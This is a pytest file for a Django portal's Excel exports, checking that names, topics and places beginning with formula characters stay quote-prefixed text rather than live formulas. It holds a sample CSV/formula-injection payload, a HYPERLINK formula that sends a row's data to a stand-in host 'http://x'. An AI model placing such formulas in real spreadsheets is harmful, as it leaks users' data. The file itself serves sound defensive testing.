"""Every workbook the portal writes keeps hostile text as text: no cell is a live formula.

A topic, a name or a place may start with `=`, `+`, `-`, `@`, a tab or a CR; a spreadsheet
runs such a cell (`=HYPERLINK("http://x"&A1,"点击")` sends the row away on a click). Each
export is read back twice: openpyxl's cell type, and the raw sheet XML (no `<f>` element).
"""

import datetime
import zipfile
from decimal import Decimal
from io import BytesIO

import pytest
import time_machine
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from dashboard.models import ExportJob
from hongjun import xlsx
from hongjun.celery import app
from tests.factories import ActivityFactory, BranchFactory, MemberFactory

HOSTILE = '=HYPERLINK("http://x"&A1,"点击")'
SHANGHAI = datetime.timezone(datetime.timedelta(hours=8))
STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def raw_sheets(content):
    with zipfile.ZipFile(BytesIO(content)) as archive:
        return {
            name: archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/sheet")
        }


def assert_inert(content, text=HOSTILE):
    """`text` is in the workbook as quote-prefixed text, and nothing is a formula."""
    for name, xml in raw_sheets(content).items():
        assert "<f>" not in xml and "<f " not in xml, name
    book = load_workbook(BytesIO(content))
    found = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == text]
    assert found, "the hostile text should be in the workbook, unchanged"
    for cell in found:
        assert cell.data_type == "s" and cell.quotePrefix
    return book


def test_put_keeps_every_formula_start_as_text_and_numbers_as_numbers():
    sheet = Workbook().active
    for column, text in enumerate(STARTS, start=1):
        cell = xlsx.put(sheet.cell(row=1, column=column), text)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    for column, number in enumerate([3, 2.5, Decimal("40.00"), -7], start=1):
        cell = xlsx.put(sheet.cell(row=2, column=column), number)
        assert cell.data_type == "n" and not cell.quotePrefix
    plain = xlsx.put(sheet.cell(row=3, column=1), "研究三月工作")
    assert (plain.data_type, plain.quotePrefix) == ("s", False)


def test_every_formula_start_survives_a_save_as_text():
    workbook = xlsx.new_workbook()
    xlsx.add_sheet(workbook, "t", ["=a"] * len(STARTS), [STARTS], caption="=caption")
    buffer = BytesIO()
    workbook.save(buffer)
    assert all("<f>" not in xml for xml in raw_sheets(buffer.getvalue()).values())
    sheet = load_workbook(BytesIO(buffer.getvalue())).active
    cells = [sheet["A1"], *sheet[2], *sheet[3]]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert sheet["A1"].value == "=caption" and sheet["A3"].value == "=1+1"


def test_branch_ledger_keeps_a_hostile_topic_as_text(client_for, sam):
    ActivityFactory(
        branch=sam.branch,
        topic=HOSTILE,
        place="-1+1",
        starts_at=datetime.datetime(2026, 3, 5, 9, tzinfo=SHANGHAI),
        ends_at=datetime.datetime(2026, 3, 5, 10, tzinfo=SHANGHAI),
    )
    response = client_for(sam).get(reverse("branches:ledger_download", args=[sam.branch.pk, 2026]))
    assert response.status_code == 200
    assert_inert(response.content)
    assert_inert(response.content, "-1+1")


def test_dues_export_keeps_a_hostile_name_as_text_and_amounts_as_numbers(client_for, sam):
    member = MemberFactory(branch=sam.branch, name=HOSTILE)
    client = client_for(sam)
    with time_machine.travel(datetime.datetime(2024, 3, 15, 10, 0), tick=False):
        declared = client.post(
            reverse("affairs:dues_declare", args=[member.pk]),
            {"category": "in_service", "income": "4000", "valid_from": "2024-01"},
        )
        assert declared.status_code == 302
        for month, proxy in [("2024-01", ""), ("2024-02", "@王代")]:
            paid = client.post(
                reverse("affairs:dues_pay", args=[member.pk]),
                {
                    "month": month,
                    "amount": "40.00",
                    "method": "cash",
                    "paid_on": "2024-03-10",
                    "proxy": proxy,
                    "proxy_consent_by": "孙明" if proxy else "",
                    "proxy_consent_on": "2024-03-10" if proxy else "",
                },
            )
            assert paid.status_code == 302
        response = client.get(reverse("affairs:dues_export", args=[sam.branch.pk]) + "?year=2024")
    sheet = assert_inert(response.content).active
    row = next(r for r in sheet.iter_rows() if r[0].value == HOSTILE)
    january, february = row[4], row[5]
    assert (january.data_type, january.value) == ("n", 40)
    assert (february.data_type, february.value) == ("n", 40)
    assert "@王代" in row[-2].value  # who paid for her, in the 代缴情况 column, as text


def test_dashboard_table_keeps_a_hostile_branch_name_as_text(client_for, carol):
    BranchFactory(name=HOSTILE)
    url = reverse("dashboard:table_download", args=["branches"])
    response = client_for(carol).get(url)
    assert response.status_code == 200
    assert_inert(response.content)


@pytest.fixture
def eager():
    app.conf.update(task_always_eager=True)
    try:
        yield
    finally:
        app.conf.update(task_always_eager=False)


def test_company_workbook_keeps_hostile_topics_and_names_as_text(
    client_for, carol, eager, django_capture_on_commit_callbacks
):
    branch = BranchFactory(name="+安全党支部")
    ActivityFactory(
        branch=branch,
        topic=HOSTILE,
        starts_at=datetime.datetime(2026, 3, 5, 9, tzinfo=SHANGHAI),
        ends_at=datetime.datetime(2026, 3, 5, 10, tzinfo=SHANGHAI),
    )
    client = client_for(carol)
    with (
        time_machine.travel(datetime.datetime(2026, 5, 20, 10, 0), tick=False),
        django_capture_on_commit_callbacks(execute=True),
    ):
        client.post(reverse("dashboard:export_create"), {"year": 2026})
    job = ExportJob.objects.get()
    assert job.state == "done", job.error
    response = client.get(reverse("dashboard:export_download", args=[job.pk]))
    content = b"".join(response.streaming_content)
    assert_inert(content)
    assert_inert(content, "+安全党支部")


def test_only_the_workbook_helper_touches_openpyxl():
    """Every export goes through `hongjun.xlsx` (and so through `put`)."""
    from pathlib import Path

    from django.conf import settings

    root = Path(settings.BASE_DIR)
    users = {
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if not {".venv", "tests", "node_modules"} & set(path.relative_to(root).parts)
        and "openpyxl" in path.read_text(encoding="utf-8")
    }
    assert users == {"hongjun/xlsx.py"}
